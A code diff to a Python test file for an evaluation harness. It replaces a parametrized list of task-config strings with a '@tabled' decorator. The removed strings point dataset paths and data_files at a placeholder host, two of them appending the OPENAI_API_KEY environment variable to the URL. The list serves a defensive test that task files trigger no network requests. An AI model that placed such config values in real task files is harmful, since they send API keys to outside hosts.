@@ -22,6 +22,7 @@ from sketchmark.files import tables
 from sketchmark.lmms_eval.shape import read_config
 from sketchmark.media import Picture
 from tests.core.helpers import colour
+from tests.tabled import tabled
 
 PLAIN = "doc_to_text: question\ndoc_to_target: answer\ntest_split: test\nmetric_list: [{metric: exact_match}]\n"
 ROWS = '{"question": "dark or light?", "answer": "dark"}\n'
@@ -62,24 +63,7 @@ def _played(
     return list(Catalog((file,), trust_code=trusted).task("theirs").samples(data=data))
 
 
-@pytest.mark.parametrize(
-    "lines",
-    [
-        "dataset_path: json\ndataset_kwargs: {data_files: '{host}/?k=${OPENAI_API_KEY}'}",
-        "dataset_path: json\ndataset_kwargs: {data_files: ['{host}/?k=$OPENAI_API_KEY']}",
-        "dataset_path: json\ndataset_kwargs: {data_files: {test: ['{host}/x.json', x.jsonl]}}",
-        "dataset_path: text\ndataset_kwargs: {data_files: '{host}/x.txt'}",
-        "dataset_path: json\ndataset_kwargs: {data_dir: '{host}/'}",
-        "dataset_path: '{host}/x.json'",
-        "dataset_path: '{host}/x'\ndataset_kwargs: {load_from_disk: true}",
-        "dataset_path: owner/name\ndataset_kwargs: {data_files: '{host}/x.json'}",
-        "dataset_path: owner/name\ndataset_kwargs: {data_files: {test: ['{host}/x.json']}}",
-        "dataset_path: owner/name\ndataset_kwargs: {data_dir: '{host}/x'}",
-        "dataset_path: owner/name\ndataset_kwargs: {storage_options: {proxy: '{host}'}}",
-        "dataset_path: webdataset\ndataset_kwargs: {data_files: '{host}/x.tar'}",
-        "dataset_path: folder",
-    ],
-)  # fmt: skip
+@tabled
 def test_no_address_in_a_task_file_is_asked_for_anything(
     tmp_path: Path, lines: str, asked: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
 ) -> None:
